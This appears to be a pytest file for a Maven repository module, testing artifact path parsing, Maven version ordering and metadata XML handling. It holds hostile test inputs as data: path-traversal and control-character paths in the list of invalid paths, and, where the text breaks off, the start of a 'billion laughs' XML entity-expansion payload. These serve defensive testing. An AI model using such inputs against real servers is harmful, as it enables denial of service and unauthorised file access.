"""The Maven 2 layout, version order and metadata (`cargohold.formats.maven`).

The version tables are those of maven-artifact 3.9's ``ComparableVersionTest``; the
paths are what ``mvn deploy``, ``mvn deploy:deploy-file`` and Jenkins'
nexusArtifactUploader send.
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta, timezone
from html.parser import HTMLParser
from itertools import pairwise

import pytest

from cargohold.errors import RequestInvalid
from cargohold.formats.maven import (
    CHECKSUM_ALGORITHMS,
    MAX_METADATA,
    METADATA_FILE,
    ListingEntry,
    MavenPath,
    MavenPlugin,
    SnapshotFile,
    SnapshotVersion,
    artifact_metadata,
    group_metadata,
    is_snapshot,
    listing_html,
    parse_metadata,
    parse_path,
    snapshot_metadata,
    sort_versions,
    version_key,
)

WHEN = datetime(2026, 11, 27, 12, 0, 0, tzinfo=UTC)

# --- parse_path -----------------------------------------------------------------------

LIB = "com/example/lib"
SNAP = f"{LIB}/1.0-SNAPSHOT"


def artifact(path: str, **fields: object) -> MavenPath:
    """The MavenPath we expect for an artifact file of com.example:lib."""
    parts = path.split("/")
    values: dict[str, object] = {
        "path": path,
        "kind": "artifact",
        "group_id": ".".join(parts[:-3]),
        "artifact_id": parts[-3],
        "version": parts[-2],
        "filename": parts[-1],
    }
    values.update(fields)
    return MavenPath(**values)  # type: ignore[arg-type]


VALID_ARTIFACTS = [
    (f"{LIB}/1.0/lib-1.0.jar", {"extension": "jar"}),
    (f"{LIB}/1.0/lib-1.0.pom", {"extension": "pom"}),
    (f"{LIB}/1.0/lib-1.0-sources.jar", {"classifier": "sources", "extension": "jar"}),
    (f"{LIB}/1.0/lib-1.0-javadoc.jar", {"classifier": "javadoc", "extension": "jar"}),
    (f"{LIB}/1.0/lib-1.0.tar.gz", {"extension": "tar.gz"}),
    (f"{LIB}/1.0/lib-1.0-bin.tar.gz", {"classifier": "bin", "extension": "tar.gz"}),
    (f"{LIB}/1.0/lib-1.0.jar.asc", {"extension": "jar.asc"}),
    (f"{LIB}/1.0/lib-1.0.pom.asc", {"extension": "pom.asc"}),
    (f"{LIB}/1.0/lib-1.0.module", {"extension": "module"}),
    (f"{LIB}/1.0/lib-1.0-jdk8.7z", {"classifier": "jdk8", "extension": "7z"}),
    (f"{LIB}/1.0.1/lib-1.0.1.jar", {"extension": "jar"}),
    (f"{LIB}/1.0-rc1+build.5/lib-1.0-rc1+build.5.jar", {"extension": "jar"}),
    ("org/acme/my-app/2.0~beta/my-app-2.0~beta.war", {"extension": "war"}),
    ("single/lib/1.0/lib-1.0.jar", {"extension": "jar"}),
    (
        f"{SNAP}/lib-1.0-20261127.120000-1.jar",
        {"snapshot": True, "timestamp": "20261127.120000", "build_number": 1, "extension": "jar"},
    ),
    (
        f"{SNAP}/lib-1.0-20261127.120000-12-sources.jar",
        {
            "snapshot": True,
            "timestamp": "20261127.120000",
            "build_number": 12,
            "classifier": "sources",
            "extension": "jar",
        },
    ),
    (
        f"{SNAP}/lib-1.0-20261127.120000-3.pom",
        {"snapshot": True, "timestamp": "20261127.120000", "build_number": 3, "extension": "pom"},
    ),
    (f"{SNAP}/lib-1.0-SNAPSHOT.jar", {"snapshot": True, "extension": "jar"}),
    (
        f"{SNAP}/lib-1.0-SNAPSHOT-tests.jar",
        {"snapshot": True, "classifier": "tests", "extension": "jar"},
    ),
    (
        f"{LIB}/SNAPSHOT/lib-20261127.120000-2.jar",
        {"snapshot": True, "timestamp": "20261127.120000", "build_number": 2, "extension": "jar"},
    ),
    (f"{LIB}/SNAPSHOT/lib-SNAPSHOT.jar", {"snapshot": True, "extension": "jar"}),
]


@pytest.mark.parametrize(("path", "fields"), VALID_ARTIFACTS)
def test_artifact_paths(path: str, fields: dict[str, object]) -> None:
    assert parse_path(path) == artifact(path, **fields)


def test_artifact_coordinates() -> None:
    parsed = parse_path(
        "org/apache/maven/plugins/maven-deploy-plugin/3.1.1/maven-deploy-plugin-3.1.1.jar"
    )
    assert parsed.group_id == "org.apache.maven.plugins"
    assert parsed.artifact_id == "maven-deploy-plugin"
    assert parsed.version == "3.1.1"
    assert parsed.filename == "maven-deploy-plugin-3.1.1.jar"
    assert parsed.snapshot is False
    assert parsed.checksum is None and parsed.target is None


@pytest.mark.parametrize("algorithm", CHECKSUM_ALGORITHMS)
@pytest.mark.parametrize(
    "target",
    [
        f"{LIB}/1.0/lib-1.0.jar",
        f"{LIB}/1.0/lib-1.0-sources.jar",
        f"{LIB}/1.0/lib-1.0.jar.asc",
        f"{SNAP}/lib-1.0-20261127.120000-1.pom",
        f"{LIB}/{METADATA_FILE}",
        f"{SNAP}/{METADATA_FILE}",
    ],
)
def test_checksum_paths(algorithm: str, target: str) -> None:
    path = f"{target}.{algorithm}"
    parsed = parse_path(path)
    covered = parse_path(target)
    assert parsed.kind == "checksum"
    assert parsed.checksum == algorithm
    assert parsed.target == target
    assert parsed.path == path
    assert parsed.filename == path.rsplit("/", 1)[1]
    # Everything else describes the covered file.
    assert (parsed.group_id, parsed.artifact_id, parsed.version) == (
        covered.group_id,
        covered.artifact_id,
        covered.version,
    )
    assert (parsed.classifier, parsed.extension, parsed.snapshot) == (
        covered.classifier,
        covered.extension,
        covered.snapshot,
    )
    assert (parsed.timestamp, parsed.build_number) == (covered.timestamp, covered.build_number)


@pytest.mark.parametrize(
    ("path", "group_id", "artifact_id", "version", "snapshot"),
    [
        (f"{LIB}/{METADATA_FILE}", "com.example", "lib", None, False),
        (f"{SNAP}/{METADATA_FILE}", "com.example", "lib", "1.0-SNAPSHOT", True),
        (f"{LIB}/SNAPSHOT/{METADATA_FILE}", "com.example", "lib", "SNAPSHOT", True),
        # Group-level plugin metadata reads as an artifact named after the last part.
        (f"org/apache/maven/plugins/{METADATA_FILE}", "org.apache.maven", "plugins", None, False),
        (f"example/lib/{METADATA_FILE}", "example", "lib", None, False),
        # A release directory holds no metadata of its own: read as artifact level.
        (f"{LIB}/1.0/{METADATA_FILE}", "com.example.lib", "1.0", None, False),
    ],
)
def test_metadata_paths(
    path: str, group_id: str, artifact_id: str, version: str | None, snapshot: bool
) -> None:
    assert parse_path(path) == MavenPath(
        path=path,
        kind="metadata",
        group_id=group_id,
        artifact_id=artifact_id,
        version=version,
        filename=METADATA_FILE,
        snapshot=snapshot,
    )


@pytest.mark.parametrize(
    ("given", "normalised"),
    [
        (f"/{LIB}/1.0/lib-1.0.jar", f"{LIB}/1.0/lib-1.0.jar"),
        (f"{LIB}/1.0/lib-1.0.jar/", f"{LIB}/1.0/lib-1.0.jar"),
        (f"/{LIB}/{METADATA_FILE}.sha1", f"{LIB}/{METADATA_FILE}.sha1"),
    ],
)
def test_outer_slashes_are_dropped(given: str, normalised: str) -> None:
    parsed = parse_path(given)
    assert parsed.path == normalised
    if parsed.target is not None:
        assert not parsed.target.startswith("/")


INVALID_PATHS = [
    ("", "empty"),
    ("/", "repository root"),
    ("//", "repository root"),
    ("///", "empty path segments"),
    (f"//{LIB}/1.0/lib-1.0.jar", "empty path segments"),
    (f"{LIB}//1.0/lib-1.0.jar", "empty path segments"),
    (f"{LIB}/1.0/lib-1.0.jar//", "empty path segments"),
    (f"{LIB}/../1.0/lib-1.0.jar", "'..' segments"),
    (f"{LIB}/./1.0/lib-1.0.jar", "'.' segments"),
    (f"../{LIB}/1.0/lib-1.0.jar", "'..' segments"),
    (f"{LIB}/1.0/.lib-1.0.jar", "starts with '.'"),
    (f"{LIB}\\1.0\\lib-1.0.jar", "backslashes"),
    (f"{LIB}/1.0/lib-1.0.jar\x00", "control characters"),
    (f"{LIB}/1.0/lib-1.0\n.jar", "control characters"),
    (f"{LIB}/1.0/lib-1.0.jar\x7f", "control characters"),
    (f"{LIB}/1.0/lib 1.0.jar", "contains ' '"),
    (f"{LIB}/1.0/lib-1.0%2Fx.jar", "contains '%'"),
    (f"{LIB}/1:0/lib-1:0.jar", "contains ':'"),
    ("com/exämple/lib/1.0/lib-1.0.jar", "contains 'ä'"),
    ("c:/lib/1.0/lib-1.0.jar", "contains ':'"),
    ("a/" * 600 + "x", "at most 1024"),
    # Too shallow.
    ("lib-1.0.jar", "groupId/artifactId/version/file"),
    ("lib/1.0/lib-1.0.jar", "groupId/artifactId/version/file"),
    (METADATA_FILE, "groupId/artifactId/"),
    (f"lib/{METADATA_FILE}", "groupId/artifactId/"),
    (f"lib/{METADATA_FILE}.sha1", "groupId/artifactId/"),
    # The file name does not match the directories.
    (f"{LIB}/1.0/other-1.0.jar", "must start with lib-1.0 "),
    (f"{LIB}/1.0/lib-2.0.jar", "must start with lib-1.0 "),
    (f"{LIB}/1.0/lib.jar", "must start with lib-1.0 "),
    (f"{LIB}/1.0/lib-1.0", "must start with lib-1.0 "),
    (f"{LIB}/1.0/lib-1.0x.jar", "must start with lib-1.0 "),
    (f"{LIB}/1.0/lib-1.0.1.jar", "does not match version '1.0'"),
    (f"{LIB}/1.0/lib-1.0-.jar", "needs a classifier and an extension"),
    (f"{LIB}/1.0/lib-1.0-sources", "needs a classifier and an extension"),
    (f"{LIB}/1.0/lib-1.0.", "empty extension"),
    (f"{LIB}/1.0/lib-1.0.jar.", "empty extension"),
    (f"{LIB}/1.0/lib-1.0..jar", "empty extension"),
    (f"{LIB}/1.0/lib-1.0-20261127.120000-1.jar", "is not a SNAPSHOT"),
    (f"{SNAP}/lib-1.0.jar", "must start with lib-1.0-SNAPSHOT or lib-1.0-<timestamp>-<build>"),
    (f"{SNAP}/lib-1.0-20261127-1.jar", "must start with lib-1.0-SNAPSHOT"),
    (f"{SNAP}/lib-1.0-20261127.120000-0.jar", "must start with lib-1.0-SNAPSHOT"),
    (f"{SNAP}/lib-1.1-20261127.120000-1.jar", "must start with lib-1.0-SNAPSHOT"),
    # Checksums of checksums are not files anyone uploads.
    (f"{LIB}/1.0/lib-1.0.jar.sha1.md5", "checksum of a checksum"),
    (f"{LIB}/1.0/lib-1.0.jar.md5.md5", "checksum of a checksum"),
    (f"{LIB}/1.0/other-1.0.jar.sha1", "must start with lib-1.0 "),
]


@pytest.mark.parametrize(("path", "message"), INVALID_PATHS)
def test_invalid_paths(path: str, message: str) -> None:
    with pytest.raises(RequestInvalid) as caught:
        parse_path(path)
    assert message in str(caught.value)
    assert str(caught.value).startswith("Maven path ")


def test_long_paths() -> None:
    segment = "a" * 200
    path = f"{segment}/{segment}/{segment}/1.0/{segment}-1.0.jar"
    assert len(path) <= 1024
    assert parse_path(path).artifact_id == segment
    with pytest.raises(RequestInvalid, match="at most 1024"):
        parse_path("x" * 1025)
    # The message quotes only the start of a long path.
    with pytest.raises(RequestInvalid) as caught:
        parse_path("x/" * 1000)
    assert len(str(caught.value)) < 300


@pytest.mark.parametrize(
    ("version", "expected"),
    [
        ("1.0-SNAPSHOT", True),
        ("SNAPSHOT", True),
        ("1.0-alpha-1-SNAPSHOT", True),
        ("1.0", False),
        ("1.0-snapshot", False),
        ("1.0SNAPSHOT", False),
        ("1.0-SNAPSHOT-1", False),
        ("1.0-20261127.120000-1", False),
    ],
)
def test_is_snapshot(version: str, expected: bool) -> None:
    assert is_snapshot(version) is expected


# --- version_key ----------------------------------------------------------------------

VERSIONS_QUALIFIER = [
    "1-alpha2snapshot",
    "1-alpha2",
    "1-alpha-123",
    "1-beta-2",
    "1-beta123",
    "1-m2",
    "1-m11",
    "1-rc",
    "1-cr2",
    "1-rc123",
    "1-SNAPSHOT",
    "1",
    "1-sp",
    "1-sp2",
    "1-sp123",
    "1-abc",
    "1-def",
    "1-pom-1",
    "1-1-snapshot",
    "1-1",
    "1-2",
    "1-123",
]

VERSIONS_NUMBER = [
    "2.0",
    "2.0.a",
    "2-1",
    "2.0.2",
    "2.0.123",
    "2.1.0",
    "2.1-a",
    "2.1b",
    "2.1-c",
    "2.1-1",
    "2.1.0.1",
    "2.2",
    "2.123",
    "11.a2",
    "11.a11",
    "11.b2",
    "11.b11",
    "11.m2",
    "11.m11",
    "11",
    "11.a",
    "11b",
    "11c",
    "11m",
]

# The order the brief states, as a Maven user would expect it.
VERSIONS_COMMON = [
    "1.0-alpha",
    "1.0-alpha-2",
    "1.0-beta",
    "1.0-milestone-1",
    "1.0-rc",
    "1.0-rc-2",
    "1.0-SNAPSHOT",
    "1.0",
    "1.0-sp",
    "1.0-1",
    "1.0.1",
    "1.1",
    "1.9",
    "1.10",
    "1.10.1-SNAPSHOT",
    "1.10.1",
    "2.0.0-M1",
    "2.0.0-RC1",
    "2.0.0",
]


@pytest.mark.parametrize(
    "table",
    [VERSIONS_QUALIFIER, VERSIONS_NUMBER, VERSIONS_COMMON],
    ids=["qualifier", "number", "common"],
)
def test_version_tables_are_ordered(table: list[str]) -> None:
    for low, high in pairwise(table):
        assert version_key(low) < version_key(high), f"expected {low} < {high}"
    shuffled = list(table)
    random.Random(7).shuffle(shuffled)
    assert sorted(shuffled, key=version_key) == table


EQUAL_VERSIONS = [
    ("1", "1"),
    ("1", "1.0"),
    ("1", "1.0.0"),
    ("1.0", "1.0.0"),
    ("1", "1-0"),
    ("1", "1.0-0"),
    ("1.0", "1.0-0"),
    # No separator between number and letter.
    ("1a", "1-a"),
    ("1a", "1.0-a"),
    ("1a", "1.0.0-a"),
    ("1.0a", "1-a"),
    ("1.0.0a", "1-a"),
    ("1x", "1-x"),
    ("1x", "1.0-x"),
    ("1x", "1.0.0-x"),
    ("1.0x", "1-x"),
    ("1.0.0x", "1-x"),
    ("1cr", "1rc"),
    # a, b and m before a number stand for alpha, beta and milestone.
    ("1a1", "1-alpha-1"),
    ("1b2", "1-beta-2"),
    ("1m3", "1-milestone-3"),
    # Case does not matter.
    ("1X", "1x"),
    ("1A", "1a"),
    ("1B", "1b"),
    ("1M", "1m"),
    ("1Cr", "1Rc"),
    ("1cR", "1rC"),
    ("1m3", "1Milestone3"),
    ("1m3", "1MileStone3"),
    ("1m3", "1MILESTONE3"),
    ("1-abcdefghijklmnopqrstuvwxyz", "1-ABCDEFGHIJKLMNOPQRSTUVWXYZ"),
    # ga, final and release are the release itself.
    ("1ga", "1"),
    ("1release", "1"),
    ("1final", "1"),
    ("1GA", "1"),
    ("1RELeaSE", "1"),
    ("1FINAL", "1"),
    ("1.0.RELEASE", "1.0"),
    ("1.0.0.Final", "1.0.0"),
    ("2.3-GA", "2.3"),
    # Leading zeroes.
    ("0000000000000000001", "1"),
    ("000000001", "1"),
    ("01", "1"),
    ("0000000000000000000", "0"),
    ("00", "0"),
    # MNG-7644: 2-X == 2.0.X == 2.0.0.X.
    *[(f"2-{x}", f"2.0.{x}") for x in ("abc", "alpha", "a", "beta", "b", "def", "m", "RC")],
    *[(f"2-{x}", f"2.0.0.{x}") for x in ("abc", "alpha", "a", "beta", "b", "def", "m", "RC")],
]


@pytest.mark.parametrize(("left", "right"), EQUAL_VERSIONS)
def test_equal_versions(left: str, right: str) -> None:
    assert version_key(left) == version_key(right)


ORDERED_PAIRS = [
    ("1", "2"),
    ("1.5", "2"),
    ("1", "2.5"),
    ("1.0", "1.1"),
    ("1.1", "1.2"),
    ("1.0.0", "1.1"),
    ("1.0.1", "1.1"),
    ("1.1", "1.2.0"),
    ("1.9", "1.10"),
    ("1.0-alpha-1", "1.0"),
    ("1.0-alpha-1", "1.0-alpha-2"),
    ("1.0-alpha-1", "1.0-beta-1"),
    ("1.0-beta-1", "1.0-SNAPSHOT"),
    ("1.0-SNAPSHOT", "1.0"),
    ("1.0-alpha-1-SNAPSHOT", "1.0-alpha-1"),
    ("1.0", "1.0-1"),
    ("1.0-1", "1.0-2"),
    ("1.0.0", "1.0-1"),
    ("2.0-1", "2.0.1"),
    ("2.0.1-klm", "2.0.1-lmn"),
    ("2.0.1", "2.0.1-xyz"),
    ("2.0.1", "2.0.1-123"),
    ("2.0.1-xyz", "2.0.1-123"),
    # "1-1" is a build of 1, below the next minor version.
    ("1-1", "1.1"),
    ("1", "1-1"),
    ("1-1", "1.0.1"),
    # Leading zeroes.
    ("0.7", "2"),
    ("0.2", "1.0.7"),
    # MNG-5568: transitive.
    ("6.1.0rc3", "6.1.0"),
    ("6.1.0rc3", "6.1H.5-beta"),
    ("6.1.0", "6.1H.5-beta"),
    # MNG-6572: numbers of any length.
    ("20190126.230843", "1234567890.12345"),
    ("1234567890.12345", "123456789012345.1H.5-beta"),
    ("123456789012345.1H.5-beta", "12345678901234567890.1H.5-beta"),
    ("20190126.230843", "12345678901234567890.1H.5-beta"),
    # MNG-6964: a qualifier after "-0." still makes the version older.
    ("1-0.alpha", "1"),
    ("1-0.beta", "1"),
    ("1-0.alpha", "1-0.beta"),
    # MNG-7644: 1.0.0.X1 < 1.0.0-X2.
    *[
        (f"1.0.0.{x}1", f"1.0.0-{x}2")
        for x in ("abc", "alpha", "a", "beta", "b", "def", "milestone", "m", "RC")
    ],
    # MNG-7714.
    ("1.0.final-redhat", "1.0-sp1-redhat"),
    ("1.0.final-redhat", "1.0-sp-1-redhat"),
    ("1.0.final-redhat", "1.0-sp.1-redhat"),
    # Real-world spellings.
    ("1.0.0.Final", "1.0.0.Final-redhat-1"),
    ("1.0.0.Final-redhat-1", "1.0.0.Final-redhat-2"),
    ("31.1-android", "31.1-jre"),
    ("5.3.0-M1", "5.3.0-RC1"),
    ("5.3.0-RC1", "5.3.0"),
    ("2.17.1", "2.17.10"),
]


@pytest.mark.parametrize(("low", "high"), ORDERED_PAIRS)
def test_ordered_pairs(low: str, high: str) -> None:
    assert version_key(low) < version_key(high)
    assert version_key(high) > version_key(low)


def test_version_keys_sort_any_mix() -> None:
    """Keys of any two versions compare without a TypeError, consistently."""
    pool = VERSIONS_QUALIFIER + VERSIONS_NUMBER + [left for left, _ in EQUAL_VERSIONS]
    pool += ["", "-", ".", "..1", "1--1", "a", "SNAPSHOT", "1.0.0.0.0.0", "x.y.z", "1_2", "~+"]
    keys = [version_key(version) for version in pool]
    ordered = sorted(keys)
    for low, high in pairwise(ordered):
        assert low <= high
    assert version_key("") == version_key("0")


def test_very_long_numbers() -> None:
    """Longer than Python converts to int by default (4300 digits)."""
    huge = "9" * 5000
    assert version_key(f"1.{huge}") < version_key(f"1.{huge}9") < version_key("2")
    assert version_key(f"1.{huge}") > version_key(f"1.{'9' * 4999}")
    assert version_key(f"1.{'0' * 5000}1") == version_key("1.1")
    assert version_key(f"1-rc{huge}") > version_key("1-rc1")


def test_sort_versions() -> None:
    assert sort_versions(["1.10", "1.9", "1.9", "1.0-SNAPSHOT", "1.0", "1.0.0"]) == [
        "1.0-SNAPSHOT",
        "1.0",
        "1.0.0",
        "1.9",
        "1.10",
    ]


# --- Writing and reading metadata -----------------------------------------------------


def test_artifact_metadata_document() -> None:
    data = artifact_metadata("com.example", "lib", ["1.10", "1.9", "2.0-SNAPSHOT", "1.0"], WHEN)
    assert data == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<metadata>\n"
        b"  <groupId>com.example</groupId>\n"
        b"  <artifactId>lib</artifactId>\n"
        b"  <versioning>\n"
        b"    <latest>2.0-SNAPSHOT</latest>\n"
        b"    <release>1.10</release>\n"
        b"    <versions>\n"
        b"      <version>1.0</version>\n"
        b"      <version>1.9</version>\n"
        b"      <version>1.10</version>\n"
        b"      <version>2.0-SNAPSHOT</version>\n"
        b"    </versions>\n"
        b"    <lastUpdated>20261127120000</lastUpdated>\n"
        b"  </versioning>\n"
        b"</metadata>\n"
    )


@pytest.mark.parametrize(
    ("versions", "latest", "release"),
    [
        (["1.0", "1.1", "1.0.1"], "1.1", "1.1"),
        (["1.0", "1.1-SNAPSHOT"], "1.1-SNAPSHOT", "1.0"),
        (["1.0-SNAPSHOT", "1.1-SNAPSHOT"], "1.1-SNAPSHOT", None),
        (["1.0-rc1", "1.0-alpha", "1.0-beta"], "1.0-rc1", "1.0-rc1"),
        (["1.0", "1.0-sp1", "1.0-SNAPSHOT"], "1.0-sp1", "1.0-sp1"),
        (["2.0.0-M1", "1.9.9"], "2.0.0-M1", "2.0.0-M1"),
        (["3"], "3", "3"),
        ([], None, None),
    ],
)
def test_artifact_metadata_round_trip(
    versions: list[str], latest: str | None, release: str | None
) -> None:
    parsed = parse_metadata(artifact_metadata("com.example", "lib", versions, WHEN))
    assert parsed.group_id == "com.example"
    assert parsed.artifact_id == "lib"
    assert parsed.version is None
    assert parsed.versions == tuple(sort_versions(versions))
    assert parsed.latest == latest
    assert parsed.release == release
    assert parsed.last_updated == "20261127120000"
    assert parsed.snapshot_timestamp is None and parsed.snapshot_build_number is None
    assert parsed.plugins == () and parsed.snapshot_versions == ()


@pytest.mark.parametrize(
    "moment",
    [
        datetime(2026, 11, 27, 12, 0, 0),
        datetime(2026, 11, 27, 13, 0, 0, tzinfo=timezone(timedelta(hours=1))),
        datetime(2026, 11, 27, 7, 0, 0, tzinfo=timezone(timedelta(hours=-5))),
    ],
)
def test_last_updated_is_utc(moment: datetime) -> None:
    parsed = parse_metadata(artifact_metadata("g", "a", ["1"], moment))
    assert parsed.last_updated == "20261127120000"


@pytest.mark.parametrize(
    ("group_id", "artifact_id", "versions", "message"),
    [
        ("com example", "lib", ["1.0"], "groupId 'com example'"),
        ("com..example", "lib", ["1.0"], "empty part"),
        ("com.example", "", ["1.0"], "artifactId ''"),
        ("com.example", "l<b", ["1.0"], "artifactId 'l<b'"),
        ("com.example", "lib", ["1.0", ""], "version ''"),
        ("com.example", "lib", ["1.0\x00"], "version '1.0\\x00'"),
    ],
)
def test_artifact_metadata_refuses_bad_coordinates(
    group_id: str, artifact_id: str, versions: list[str], message: str
) -> None:
    with pytest.raises(RequestInvalid) as caught:
        artifact_metadata(group_id, artifact_id, versions, WHEN)
    assert message in str(caught.value)


def snap(
    build: int,
    extension: str = "jar",
    classifier: str | None = None,
    timestamp: str | None = None,
) -> SnapshotFile:
    stamp = timestamp or f"20261127.1200{build:02d}"
    return SnapshotFile(
        timestamp=stamp,
        build_number=build,
        classifier=classifier,
        extension=extension,
        updated=WHEN + timedelta(seconds=build),
    )


def test_snapshot_metadata_document() -> None:
    files = [snap(1), snap(1, "pom"), snap(2), snap(2, "pom"), snap(1, "jar", "sources")]
    data = snapshot_metadata("com.example", "lib", "1.0-SNAPSHOT", files, WHEN)
    assert data == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<metadata modelVersion="1.1.0">\n'
        b"  <groupId>com.example</groupId>\n"
        b"  <artifactId>lib</artifactId>\n"
        b"  <version>1.0-SNAPSHOT</version>\n"
        b"  <versioning>\n"
        b"    <snapshot>\n"
        b"      <timestamp>20261127.120002</timestamp>\n"
        b"      <buildNumber>2</buildNumber>\n"
        b"    </snapshot>\n"
        b"    <lastUpdated>20261127120000</lastUpdated>\n"
        b"    <snapshotVersions>\n"
        b"      <snapshotVersion>\n"
        b"        <extension>jar</extension>\n"
        b"        <value>1.0-20261127.120002-2</value>\n"
        b"        <updated>20261127120002</updated>\n"
        b"      </snapshotVersion>\n"
        b"      <snapshotVersion>\n"
        b"        <extension>pom</extension>\n"
        b"        <value>1.0-20261127.120002-2</value>\n"
        b"        <updated>20261127120002</updated>\n"
        b"      </snapshotVersion>\n"
        b"      <snapshotVersion>\n"
        b"        <classifier>sources</classifier>\n"
        b"        <extension>jar</extension>\n"
        b"        <value>1.0-20261127.120001-1</value>\n"
        b"        <updated>20261127120001</updated>\n"
        b"      </snapshotVersion>\n"
        b"    </snapshotVersions>\n"
        b"  </versioning>\n"
        b"</metadata>\n"
    )


def test_snapshot_metadata_round_trip() -> None:
    files = [
        snap(3, "pom"),
        snap(1),
        snap(3),
        snap(2, "jar", "sources"),
        snap(1, "jar", "sources"),
        snap(3, "tar.gz", "bin"),
        snap(2, "jar.asc"),
    ]
    parsed = parse_metadata(snapshot_metadata("com.example", "lib", "1.0-SNAPSHOT", files, WHEN))
    assert (parsed.group_id, parsed.artifact_id, parsed.version) == (
        "com.example",
        "lib",
        "1.0-SNAPSHOT",
    )
    assert parsed.snapshot_timestamp == "20261127.120003"
    assert parsed.snapshot_build_number == 3
    assert parsed.last_updated == "20261127120000"
    assert parsed.versions == () and parsed.latest is None and parsed.release is None
    assert set(parsed.snapshot_versions) == {
        SnapshotVersion(None, "jar", "1.0-20261127.120003-3", "20261127120003"),
        SnapshotVersion(None, "pom", "1.0-20261127.120003-3", "20261127120003"),
        SnapshotVersion("sources", "jar", "1.0-20261127.120002-2", "20261127120002"),
        SnapshotVersion("bin", "tar.gz", "1.0-20261127.120003-3", "20261127120003"),
        SnapshotVersion(None, "jar.asc", "1.0-20261127.120002-2", "20261127120002"),
    }


def test_snapshot_value_matches_the_file_path() -> None:
    """The <value> is what a client puts in the file name it then fetches."""
    data = snapshot_metadata("com.example", "lib", "1.0-SNAPSHOT", [snap(4)], WHEN)
    (entry,) = parse_metadata(data).snapshot_versions
    path = parse_path(f"{SNAP}/lib-{entry.value}.{entry.extension}")
    assert (path.timestamp, path.build_number) == ("20261127.120004", 4)


def test_plain_snapshot_version() -> None:
    data = snapshot_metadata("com.example", "lib", "SNAPSHOT", [snap(1)], WHEN)
    (entry,) = parse_metadata(data).snapshot_versions
    assert entry.value == "20261127.120001-1"


def test_snapshot_metadata_without_builds() -> None:
    parsed = parse_metadata(snapshot_metadata("g", "a", "1.0-SNAPSHOT", [], WHEN))
    assert parsed.version == "1.0-SNAPSHOT"
    assert parsed.snapshot_timestamp is None and parsed.snapshot_build_number is None
    assert parsed.snapshot_versions == ()
    assert parsed.last_updated == "20261127120000"


@pytest.mark.parametrize(
    ("version", "files", "message"),
    [
        ("1.0", [snap(1)], "not a SNAPSHOT"),
        ("1.0-SNAPSHOT", [snap(1, timestamp="2026-11-27")], "yyyyMMdd.HHmmss"),
        ("1.0-SNAPSHOT", [snap(0)], "positive integer"),
        ("1.0-SNAPSHOT", [snap(1, "")], "extension ''"),
        ("1.0-SNAPSHOT", [snap(1, "jar", "a b")], "classifier 'a b'"),
    ],
)
def test_snapshot_metadata_refuses(version: str, files: list[SnapshotFile], message: str) -> None:
    with pytest.raises(RequestInvalid, match=message):
        snapshot_metadata("com.example", "lib", version, files, WHEN)


MAVEN_WRITTEN_SNAPSHOT = b"""<?xml version="1.0" encoding="UTF-8"?>
<metadata modelVersion="1.1.0" xmlns="http://maven.apache.org/METADATA/1.1.0"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <groupId>com.example</groupId>
  <artifactId>lib</artifactId>
  <version>1.0-SNAPSHOT</version>
  <versioning>
    <snapshot>
      <timestamp>20261127.120000</timestamp>
      <buildNumber>7</buildNumber>
    </snapshot>
    <lastUpdated>20261127120000</lastUpdated>
    <snapshotVersions>
      <snapshotVersion>
        <extension>jar</extension>
        <value>1.0-20261127.120000-7</value>
        <updated>20261127120000</updated>
      </snapshotVersion>
    </snapshotVersions>
  </versioning>
</metadata>
"""

GROUP_METADATA = b"""<?xml version="1.0" encoding="UTF-8"?>
<metadata>
  <plugins>
    <plugin>
      <name>Apache Maven Deploy Plugin</name>
      <prefix>deploy</prefix>
      <artifactId>maven-deploy-plugin</artifactId>
    </plugin>
    <plugin>
      <prefix>install</prefix>
      <artifactId>maven-install-plugin</artifactId>
    </plugin>
  </plugins>
</metadata>
"""


def test_parse_namespaced_snapshot_metadata() -> None:
    parsed = parse_metadata(MAVEN_WRITTEN_SNAPSHOT)
    assert parsed.group_id == "com.example"
    assert parsed.version == "1.0-SNAPSHOT"
    assert parsed.snapshot_timestamp == "20261127.120000"
    assert parsed.snapshot_build_number == 7
    assert parsed.snapshot_versions == (
        SnapshotVersion(None, "jar", "1.0-20261127.120000-7", "20261127120000"),
    )


def test_parse_group_metadata() -> None:
    parsed = parse_metadata(GROUP_METADATA)
    assert parsed.group_id is None and parsed.artifact_id is None
    assert parsed.plugins == (
        MavenPlugin("deploy", "maven-deploy-plugin", "Apache Maven Deploy Plugin"),
        MavenPlugin("install", "maven-install-plugin", None),
    )


def test_group_metadata_round_trip() -> None:
    assert group_metadata(parse_metadata(GROUP_METADATA).plugins) == GROUP_METADATA


def test_group_metadata_keeps_the_first_entry_of_a_prefix() -> None:
    data = group_metadata(
        [MavenPlugin("hi", "hello-maven-plugin"), MavenPlugin("hi", "other-maven-plugin", "<x>")]
    )
    assert parse_metadata(data).plugins == (MavenPlugin("hi", "hello-maven-plugin", None),)
    assert (
        group_metadata([]) == b'<?xml version="1.0" encoding="UTF-8"?>\n<metadata>\n</metadata>\n'
    )


def test_artifact_metadata_with_plugins() -> None:
    plugin = MavenPlugin("hi", "hello-maven-plugin", "Hello & <welcome>")
    data = artifact_metadata("com.example", "tools", ["1.0"], WHEN, [plugin])
    assert data.endswith(
        b"  </versioning>\n"
        b"  <plugins>\n"
        b"    <plugin>\n"
        b"      <name>Hello &amp; &lt;welcome&gt;</name>\n"
        b"      <prefix>hi</prefix>\n"
        b"      <artifactId>hello-maven-plugin</artifactId>\n"
        b"    </plugin>\n"
        b"  </plugins>\n"
        b"</metadata>\n"
    )
    parsed = parse_metadata(data)
    assert parsed.versions == ("1.0",) and parsed.plugins == (plugin,)


@pytest.mark.parametrize(
    "plugin",
    [MavenPlugin("a b", "hello-maven-plugin"), MavenPlugin("hi", "<x>"), MavenPlugin(".", "p")],
)
def test_group_metadata_refuses_bad_names(plugin: MavenPlugin) -> None:
    with pytest.raises(RequestInvalid, match="plugin"):
        group_metadata([plugin])


def test_parse_metadata_tolerates_encodings_and_comments() -> None:
    data = (
        '<?xml version="1.0" encoding="UTF-16"?>\n<!-- written by hand -->\n'
        "<metadata><groupId> com.example </groupId><versioning><versions>"
        "<version>1.0</version><version/><version>1.1</version>"
        "</versions></versioning></metadata>"
    ).encode("utf-16")
    parsed = parse_metadata(data)
    assert parsed.group_id == "com.example"
    assert parsed.versions == ("1.0", "1.1")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
